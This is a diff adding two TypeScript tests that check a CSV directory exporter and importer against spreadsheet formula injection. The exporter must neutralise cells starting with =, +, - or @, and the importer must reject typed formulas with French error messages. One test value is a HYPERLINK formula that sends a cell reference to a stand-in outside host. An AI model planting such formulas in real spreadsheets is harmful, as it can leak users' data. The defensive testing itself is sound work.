@@ -165,4 +165,48 @@ describe('the directory as CSV', () => {
 		expect(readFileSync(join(folder, 'quais.yaml'), 'utf8')).not.toBe(text); // rewritten in the canonical form
 		expect(runChecks(project(root))).toEqual([]);
 	});
+
+	it('writes cells a spreadsheet would run as formulas as text, and reads them back byte for byte', () => {
+		const formulas = `name: "=HYPERLINK(\\"https://ailleurs.example/?\\"&A1;\\"clic\\")"
+address: { street: "+1 rue du Calcul", postcode: "44000", city: "@Nantes" }
+phone: "+33 2 00 00 00 00"
+structureType: mairie
+mediations: [wifi]
+public: "-Tous"
+access: "'=déjà protégé"
+hours: "'matin"
+updated: 2026-01-02
+`;
+		const root = tree({ 'repertoire/calcul.yaml': formulas });
+		const first = exportDirectory(project(root).graph);
+		const cells = (parse(first, { bom: true }) as string[][])[1]!;
+		// No cell starts as a formula: a spreadsheet shows each as text.
+		expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+		expect(cells).toContain(`'=HYPERLINK("https://ailleurs.example/?"&A1;"clic")`);
+		expect(cells).toContain("'+33 2 00 00 00 00");
+		expect(cells).toContain("''=déjà protégé");
+		expect(cells).toContain("'matin");
+
+		const imported = importDirectory(first, project(root).graph);
+		expect(imported.problems).toEqual([]);
+		expect(imported.places[0]!.data).toEqual(project(root).graph.get('repertoire', 'calcul')!.data);
+		const other = writeContentTree(TYPOLOGY);
+		writePlaces(directoryFolder(other, 'content'), imported.places);
+		expect(exportDirectory(project(other).graph)).toBe(first);
+	});
+
+	it('refuses a cell typed as a formula, naming its line and column', () => {
+		const csv = exportDirectory(project(tree()).graph);
+		let typed = edit(csv, 2, 'nom', '=1+1');
+		typed = edit(typed, 3, 'telephone', '+33 2 00 00 00 00');
+		typed = edit(typed, 3, 'horaires', '@SUM(A1)');
+		const { places, problems } = importDirectory(typed, project(tree()).graph);
+		expect(places).toEqual([]);
+		expect(problems.map((problem) => [problem.row, problem.column, problem.message])).toEqual([
+			[2, 'nom', 'la cellule commence par « = » : un tableur la lirait comme une formule'],
+			[3, 'telephone', 'la cellule commence par « + » : un tableur la lirait comme une formule'],
+			[3, 'horaires', 'la cellule commence par « @ » : un tableur la lirait comme une formule'],
+		]);
+		expect(problems[1]!.hint).toBe("si le texte doit commencer ainsi, mettez une apostrophe devant (« '+33 2 00 00 ») ; sinon retirez ce signe");
+	});
 });
